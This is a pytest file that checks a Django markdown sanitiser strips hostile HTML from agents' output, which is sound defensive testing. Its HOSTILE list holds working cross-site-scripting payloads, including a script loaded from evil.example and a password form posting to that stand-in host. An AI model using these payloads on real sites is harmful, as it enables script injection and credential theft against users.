"""The markdown sanitiser: agents' markdown becomes HTML with only allow-listed tags,
attributes and link schemes, whatever they write."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from django.template import engines

from orchestra.markdown import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, LINK_REL, render_markdown

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    '<img src="https://ok.example/a.png" onload=alert(1)>',
    "![pixel](data:image/png;base64,iVBORw0KGgo=)",
    "<img src=data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click]( javascript:alert(1) )",
    '<a href="&#106;&#97;vascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<iframe src="https://evil.example"></iframe>',
    "<object data=x></object><embed src=x>",
    "<style>body { display: none }</style>",
    '<div style="position:fixed;top:0">overlay</div>',
    '<p onclick="alert(1)" onmouseover=alert(2)>hover</p>',
    '<svg onload="alert(1)"><circle r=10 /></svg>',
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    '<form action="https://evil.example"><input name=password><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<!-- <script>alert(1)</script> -->",
    "<textarea><script>alert(1)</script></textarea>",
    "<noscript><img src=x onerror=alert(1)></noscript>",
    '<a href="https://ok.example" target="_blank" rel="opener">ok</a>',
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    '<details open ontoggle="alert(1)"><summary>s</summary>d</details>',
]


class Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def parsed(html: str) -> list[tuple[str, dict[str, str | None]]]:
    collector = Collector()
    collector.feed(html)
    return collector.tags


GENERIC = {"title", "lang"}  # ammonia keeps these on any allowed tag


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_is_neutralised(text: str) -> None:
    html = str(render_markdown(text))
    lowered = html.lower()
    for tag, attrs in parsed(html):
        assert tag in ALLOWED_TAGS, (tag, html)
        for name, value in attrs.items():
            assert not name.startswith("on"), (name, html)
            assert name in ALLOWED_ATTRIBUTES.get(tag, set()) | GENERIC | {"rel"}, (tag, name, html)
            if name in ("href", "src"):
                scheme = urlsplit((value or "").strip()).scheme.lower()
                assert scheme in ("", "http", "https", "mailto"), (value, html)
            if name == "src":
                assert (value or "").startswith(("https://", "http://")), html
        if tag == "a":
            assert attrs.get("rel") == LINK_REL, html
    # Whatever is left of the input as markup carries no script, style or data URL
    # (as escaped text it is harmless: the browser shows it).
    for markup in re.findall(r"<[^<>]*>", lowered):
        for needle in ("javascript", "vbscript", "data:", "style", "<script", "<iframe", "<svg", "<form"):
            assert needle not in markup, (needle, html)


def test_code_keeps_its_text_escaped() -> None:
    html = str(render_markdown("```\n<script>alert(1)</script>\n```\n\nand `<b>inline</b>`"))
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html and "<code>&lt;b&gt;inline&lt;/b&gt;</code>" in html


def test_ordinary_markdown_renders() -> None:
    html = str(
        render_markdown(
            "# Title\n\nSome **bold**, _em_ and ~~gone~~.\n\n- one\n- two\n\n1. first\n\n"
            "| a | b |\n|---|---|\n| 1 | 2 |\n\n> quoted\n\n"
            "[docs](https://docs.example/x?y=1&z=2) [here](/projects/apollo/) <mailto:team@example.com>\n\n"
            "![logo](https://img.example/logo.png)"
        )
    )
    for piece in (
        "<h1>Title</h1>",
        "<strong>bold</strong>",
        "<em>em</em>",
        "<li>one</li>",
        "<ol>",
        "<table>",
        "<td>2</td>",
        "<blockquote>",
        f'<a href="https://docs.example/x?y=1&amp;z=2" rel="{LINK_REL}">docs</a>',
        f'<a href="/projects/apollo/" rel="{LINK_REL}">here</a>',
        'src="https://img.example/logo.png"',
    ):
        assert piece in html, (piece, html)
    assert 'href="mailto:' in html or "&#109;&#97;&#105;&#108;" in html  # markdown obfuscates addresses


def test_empty_and_none_render_nothing() -> None:
    assert render_markdown("") == "" and render_markdown(None) == ""


def test_the_template_filter_sanitises_and_is_not_escaped_twice() -> None:
    template = engines["django"].from_string("{% load markdown %}<div>{{ text|markdown }}</div>")
    out = template.render({"text": "**hi** <script>alert(1)</script><img src=x onerror=alert(1)>"})
    assert out.startswith("<div><p><strong>hi</strong>") and "<script" not in out and "onerror" not in out
